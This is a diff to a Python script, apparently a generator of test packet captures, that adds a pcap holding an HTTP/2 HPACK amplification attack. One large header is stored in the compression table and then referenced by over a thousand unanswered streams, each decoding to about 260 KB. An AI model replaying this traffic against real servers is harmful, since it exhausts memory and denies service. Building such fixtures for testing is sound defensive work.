@@ -228,6 +228,44 @@ def main():
             seq += len(piece)
     p.close()
 
+    # 13. HPACK amplification over HTTP/2: per connection, stream 1 grows the
+    # client's table to 64 KiB and adds a 65,000-byte header to it; 1,023 more
+    # streams, never answered, each a block of 10 bytes naming it four times
+    # (260 KB of decoded headers each, within the list cap). 381 KB on disk.
+    def hint(v, bits, first):
+        top = (1 << bits) - 1
+        if v < top:
+            return bytes([first | v])
+        out = [first | top]
+        v -= top
+        while v >= 128:
+            out.append(v % 128 + 128)
+            v //= 128
+        return bytes(out + [v])
+
+    def frame(kind, flags, stream, payload):
+        return (struct.pack("!I", len(payload))[1:] + bytes([kind, flags])
+                + struct.pack("!I", stream) + payload)
+
+    base = bytes([0x83, 0x86, 0x04]) + hint(4, 7, 0) + b"/mcp" + bytes([0x01]) + hint(4, 7, 0) + b"h:80"
+    p = Pcap(f"{out}/hpack-amplifier.pcap")
+    for c in range(4):
+        port = 45000 + c
+        p.seg(C, S, port, 80, 999, SYN)
+        block = hint(65536, 5, 0x20) + base + b"\x40" + hint(3, 7, 0) + b"x-a" + hint(65000, 7, 0) + b"v" * 65000
+        wire = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
+        for k in range(0, len(block), 16384):
+            piece = block[k:k + 16384]
+            last = k + 16384 >= len(block)
+            wire += frame(1 if k == 0 else 9, (0x4 if last else 0) | (0x1 if k == 0 else 0), 1, piece)
+        for sid in range(3, 2048, 2):
+            wire += frame(1, 0x5, sid, base + bytes([0xbe]) * 4)
+        seq = 1000
+        for piece in chunks(wire, 1400):
+            p.seg(C, S, port, 80, seq, ACK | PSH, piece)
+            seq += len(piece)
+    p.close()
+
 
 if __name__ == "__main__":
     main()
